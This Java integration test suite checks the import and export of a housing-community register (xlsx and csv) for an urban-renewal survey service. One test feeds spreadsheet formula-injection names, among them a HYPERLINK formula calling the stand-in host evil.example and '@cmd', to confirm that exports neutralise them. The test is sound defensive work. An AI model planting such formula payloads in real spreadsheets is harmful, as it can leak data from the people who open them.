package org.renewal.survey.transfer;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;

import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.renewal.survey.TestStreets;
import org.renewal.platform.embedded.TestIssuer;
import org.renewal.platform.test.Http;
import org.renewal.platform.test.ServiceIntegrationTest;
import org.renewal.platform.test.EmbeddedInfrastructure;
import org.renewal.platform.test.TopicProbe;
import org.renewal.contracts.survey.SurveyTopics;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.data.mongodb.core.MongoTemplate;
import tools.jackson.databind.JsonNode;

/** Import and export of the register through the API and the real store. */
@ServiceIntegrationTest
class RegisterTransferIT {

    static final List<String> HEADER = List.of("区县代码 districtCode", "街道代码 streetCode", "小区名称 name",
            "建成年份 buildYear", "产权性质 propertyRight", "设施缺失项 facilityDeficiencies", "楼号 buildingNumber",
            "层数 floors", "户数 households", "建筑面积 floorArea", "有电梯 hasElevator");

    @LocalServerPort
    int port;

    @Autowired
    MongoTemplate mongo;

    Http office;
    String street;

    @BeforeEach
    void setUp() {
        office = Http.at(port).as(TestIssuer.get().districtOffice("220302"));
        street = TestStreets.next();
    }

    @Test
    void validCommunitiesAreStoredInvalidOnesReportedByRowAndAReImportCreatesNothing() throws IOException {
        byte[] file = xlsx(List.of(HEADER,
                row("东风小区", "1992", "房改房", "ROOF_LEAKING;路灯缺失", "1", "6", "48", "3120.5", "否"),
                row("东风小区", "1992", "房改房", "ROOF_LEAKING;路灯缺失", "2", "6", "36", "2480", "否"),
                row("红旗小区", "1988", "COMMODITY_HOUSING", "", "1", "5", "30", "1800", "no"),
                row("坏小区", "1990", "城堡", "", "1", "6", "many", "-5", "否"),
                row("坏小区", "1990", "城堡", "", "2", "6", "20", "1200", "否")));

        JsonNode job = finished(upload("register.xlsx", file, null));

        assertThat(job.get("status").asString()).isEqualTo("DONE");
        assertThat(job.get("rows").asInt()).isEqualTo(5);
        assertThat(job.get("created").asInt()).isEqualTo(2);
        assertThat(job.get("rejectedCommunities").asInt()).isEqualTo(1);
        assertThat(job.get("rejectedRows").asInt()).isEqualTo(2);
        assertThat(problems(job)).containsExactlyInAnyOrder("5:propertyRight", "5:households", "5:floorArea");
        JsonNode list = office.get("/api/survey/communities?streetCode=" + street + "&sort=name").json();
        assertThat(list.get("page").get("totalElements").asInt()).isEqualTo(2);
        JsonNode dongfeng = office.get("/api/survey/communities?streetCode=" + street + "&name=东风").json()
                .get("content").get(0);
        assertThat(dongfeng.get("households").asInt()).isEqualTo(84);
        assertThat(dongfeng.get("propertyRight").asString()).isEqualTo("REFORMED_PUBLIC_HOUSING");
        assertThat(dongfeng.get("facilityDeficiencies")).hasSize(2);
        assertThat(dongfeng.get("eligibility").get("outcome").asString()).isEqualTo("PRIORITY");

        JsonNode again = finished(upload("register.xlsx", file, null));
        assertThat(again.get("created").asInt()).isZero();
        assertThat(again.get("unchanged").asInt()).isEqualTo(2);
        assertThat(office.get("/api/survey/communities?streetCode=" + street).json().get("page")
                .get("totalElements").asInt()).isEqualTo(2);
    }

    @Test
    void theExportReadsBackAsAnImportThatChangesNothing() throws IOException {
        finished(upload("a.xlsx", xlsx(List.of(HEADER,
                row("往返小区", "1995", "MIXED", "ROADS_DAMAGED", "1", "7", "70", "4321.25", "是"),
                row("往返小区", "1995", "MIXED", "ROADS_DAMAGED", "2", "7", "35", "2100", "否"))), null));

        byte[] xlsx = office.download("/api/survey/exports/communities.xlsx?streetCode=" + street);
        byte[] csv = office.download("/api/survey/exports/communities.csv?streetCode=" + street);

        try (Workbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            Sheet sheet = workbook.getSheetAt(0);
            assertThat(sheet.getLastRowNum()).isEqualTo(2);
            assertThat(sheet.getRow(0).getCell(3).getStringCellValue()).isEqualTo("小区名称 name");
        }
        String text = new String(csv, StandardCharsets.UTF_8);
        assertThat(text).startsWith("\uFEFF区县代码 districtCode,").contains("往返小区").contains("4321.25");

        JsonNode fromXlsx = finished(upload("export.xlsx", xlsx, null));
        JsonNode fromCsv = finished(upload("export.csv", csv, null));
        assertThat(fromXlsx.get("unchanged").asInt()).isEqualTo(1);
        assertThat(fromCsv.get("unchanged").asInt()).isEqualTo(1);
        assertThat(fromCsv.get("rejectedRows").asInt()).isZero();
    }

    @Test
    void aRegisterMixingNewCommunitiesWithOneRegisteredThroughTheApiCountsEachExactly() throws IOException {
        // registered through the API: its id is not the one an import would give it
        var registered = office.post("/api/survey/communities", """
                {"name":"混合3","districtCode":"220302","streetCode":"%s","buildYear":1990,
                 "buildings":[{"number":"1","floors":6,"households":10,"floorArea":600}]}""".formatted(street));
        assertThat(registered.status()).as(registered.body()).isEqualTo(201);
        List<List<String>> rows = new ArrayList<>();
        rows.add(HEADER);
        for (int i = 0; i < 6; i++) {
            // the API's community is the fourth; in the register it has 12 households instead of 10
            rows.add(row("混合" + i, "1990", "", "", "1", "6", i == 3 ? "12" : "10", "600", ""));
        }

        JsonNode job = finished(upload("mixed.xlsx", xlsx(rows), null));

        assertThat(job.get("created").asInt()).isEqualTo(5);
        assertThat(job.get("updated").asInt()).isEqualTo(1);
        assertThat(job.get("unchanged").asInt()).isZero();
        JsonNode list = office.get("/api/survey/communities?size=100&streetCode=" + street).json();
        assertThat(list.get("page").get("totalElements").asInt()).isEqualTo(6);
        JsonNode api = office.get("/api/survey/communities/" + registered.json().get("id").asString()).json();
        assertThat(api.get("households").asInt()).isEqualTo(12);
    }

    @Test
    void importedCommunitiesAreAnnouncedAndTheirOutboxEmpties() throws IOException {
        List<List<String>> rows = new ArrayList<>();
        rows.add(HEADER);
        for (int i = 0; i < 30; i++) {
            rows.add(row("批量" + i, "1990", "", "", "1", "6", "10", "600", ""));
        }

        JsonNode job = finished(upload("batch.xlsx", xlsx(rows), null));

        assertThat(job.get("created").asInt()).isEqualTo(30);
        List<String> ids = new ArrayList<>();
        office.get("/api/survey/communities?size=100&streetCode=" + street).json().get("content")
                .forEach(c -> ids.add(c.get("id").asString()));
        assertThat(ids).hasSize(30);
        var registered = TopicProbe.await(EmbeddedInfrastructure.get().kafkaBootstrapServers(), SurveyTopics.COMMUNITY,
                r -> ids.contains(r.key()) && r.value().contains("\"survey.CommunityRegistered\""), 30,
                Duration.ofSeconds(30));
        assertThat(registered).extracting(r -> r.key()).containsExactlyInAnyOrderElementsOf(ids);
        await().atMost(Duration.ofSeconds(15)).until(() -> {
            int pending = 0;
            for (var doc : mongo.getCollection("communities").find(new org.bson.Document("streetCode", street))) {
                pending += doc.getList("pendingEvents", Object.class).size();
            }
            return pending == 0;
        });
    }

    @Test
    void aCsvSavedByExcelInGb18030IsRead() {
        String csv = String.join(",", HEADER) + "\r\n"
                + String.join(",", row("国标小区", "1999", "单位自管房", "", "1", "6", "24", "1500", "否")) + "\r\n";

        JsonNode job = finished(upload("gbk.csv", csv.getBytes(Charset.forName("GB18030")), null));

        assertThat(job.get("created").asInt()).isEqualTo(1);
        assertThat(office.get("/api/survey/communities?streetCode=" + street).json().get("content").get(0)
                .get("name").asString()).isEqualTo("国标小区");
    }

    @Test
    void aRetriedUploadWithTheSameKeyReturnsTheFirstJob() throws IOException {
        byte[] file = xlsx(List.of(HEADER, row("重试小区", "1990", "", "", "1", "6", "10", "600", "")));
        String key = "import-" + UUID.randomUUID();

        var first = upload("r.xlsx", file, key);
        var second = upload("r.xlsx", file, key);
        var other = upload("r2.xlsx", xlsx(List.of(HEADER, row("别的", "1990", "", "", "1", "6", "10", "600", ""))),
                key);

        assertThat(second.json().get("id").asString()).isEqualTo(first.json().get("id").asString());
        assertThat(other.status()).isEqualTo(422);
    }

    @Test
    void whatIsNotARegisterSheetIsRefusedAtOnce() throws IOException {
        var garbage = upload("fake.xlsx", "PK\u0003\u0004 definitely not a zip".getBytes(StandardCharsets.ISO_8859_1),
                null);
        var binary = upload("photo.csv", new byte[] {(byte) 0x89, 'P', 'N', 'G', 0, 0, 0, 13, 0, 1, 2}, null);
        var noColumns = upload("other.xlsx", xlsx(List.of(List.of("foo", "bar"), List.of("1", "2"))), null);
        var empty = upload("empty.csv", new byte[0], null);

        for (var response : List.of(garbage, binary, noColumns, empty)) {
            assertThat(response.status()).as(response.body()).isEqualTo(400);
            assertThat(response.contentType()).startsWith("application/problem+json");
            assertThat(response.json().get("errors").get(0).get("field").asString()).isEqualTo("file");
        }
        assertThat(mongo.getCollection("import_jobs").countDocuments(new org.bson.Document("fileName",
                new org.bson.Document("$in", List.of("fake.xlsx", "photo.csv", "other.xlsx", "empty.csv"))))).isZero();
    }

    @Test
    void aFileAboveTheLimitIs413Problem() {
        byte[] big = new byte[11 * 1024 * 1024];

        var response = upload("big.csv", big, null);

        assertThat(response.status()).isEqualTo(413);
        assertThat(response.json().get("code").asString()).isEqualTo("PAYLOAD_TOO_LARGE");
    }

    @Test
    void anotherDistrictsRowsAreRefusedAndReportedNotStored() throws IOException {
        byte[] file = xlsx(List.of(HEADER, List.of("220303", "220303001", "越界小区", "1990", "", "", "1", "6", "10",
                "600", "")));

        JsonNode job = finished(upload("x.xlsx", file, null));

        assertThat(job.get("created").asInt()).isZero();
        assertThat(problems(job)).containsExactly("2:districtCode");
    }
    @Test
    void namesThatLookLikeFormulasExportAsTextAndReadBackAsWritten() throws IOException {
        List<String> names = List.of("=HYPERLINK(\"http://evil.example/?x\",\"x\")", "+SUM(1,2)", "-2+3", "@cmd");
        List<List<String>> rows = new ArrayList<>();
        rows.add(HEADER);
        names.forEach(name -> rows.add(row(name, "1995", "MIXED", "", "1", "6", "20", "1200", "否")));
        assertThat(finished(upload("formulas.xlsx", xlsx(rows), null)).get("created").asInt()).isEqualTo(names.size());

        byte[] xlsx = office.download("/api/survey/exports/communities.xlsx?streetCode=" + street);
        byte[] csv = office.download("/api/survey/exports/communities.csv?streetCode=" + street);

        List<String> cells = new ArrayList<>();
        try (Workbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            workbook.getSheetAt(0).forEach(row -> row.forEach(cell -> cells.add(cell.toString())));
        }
        for (String line : new String(csv, StandardCharsets.UTF_8).substring(1).split("\r\n")) {
            for (String cell : line.split(",")) {
                cells.add(cell.startsWith("\"") ? cell.substring(1) : cell);
            }
        }
        assertThat(cells).isNotEmpty().noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0);
        assertThat(new String(csv, StandardCharsets.UTF_8)).contains("'=HYPERLINK(", "'@cmd");
        // what the suite exported imports again as the same communities
        assertThat(finished(upload("formulas-export.xlsx", xlsx, null)).get("unchanged").asInt()).isEqualTo(names.size());
        assertThat(finished(upload("formulas-export.csv", csv, null)).get("unchanged").asInt()).isEqualTo(names.size());
    }

    private List<String> row(String name, String year, String right, String deficiencies, String building,
                             String floors, String households, String area, String elevator) {
        return List.of("220302", street, name, year, right, deficiencies, building, floors, households, area, elevator);
    }

    private Http.Response upload(String fileName, byte[] content, String idempotencyKey) {
        String boundary = "----renewal" + UUID.randomUUID();
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        body.writeBytes(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + fileName
                + "\"\r\nContent-Type: application/octet-stream\r\n\r\n").getBytes(StandardCharsets.UTF_8));
        body.writeBytes(content);
        body.writeBytes(("\r\n--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
        List<String> headers = new ArrayList<>();
        if (idempotencyKey != null) {
            headers.add("Idempotency-Key");
            headers.add(idempotencyKey);
        }
        return office.send("POST", "/api/survey/imports", "multipart/form-data; boundary=" + boundary,
                body.toByteArray(), headers.toArray(String[]::new));
    }

    private JsonNode finished(Http.Response submitted) {
        assertThat(submitted.status()).as(submitted.body()).isEqualTo(202);
        String location = submitted.header("Location");
        JsonNode[] job = new JsonNode[1];
        await().atMost(Duration.ofSeconds(60)).until(() -> {
            job[0] = office.get(location).json();
            String status = job[0].get("status").asString();
            return status.equals("DONE") || status.equals("FAILED");
        });
        return job[0];
    }

    private static List<String> problems(JsonNode job) {
        List<String> found = new ArrayList<>();
        job.get("problems").forEach(p -> found.add(p.get("row").asInt() + ":" + p.get("field").asString()));
        return found;
    }

    static byte[] xlsx(List<List<String>> rows) throws IOException {
        try (XSSFWorkbook workbook = new XSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            Sheet sheet = workbook.createSheet("登记册");
            for (int r = 0; r < rows.size(); r++) {
                Row row = sheet.createRow(r);
                for (int c = 0; c < rows.get(r).size(); c++) {
                    row.createCell(c).setCellValue(rows.get(r).get(c));
                }
            }
            workbook.write(out);
            return out.toByteArray();
        }
    }
}
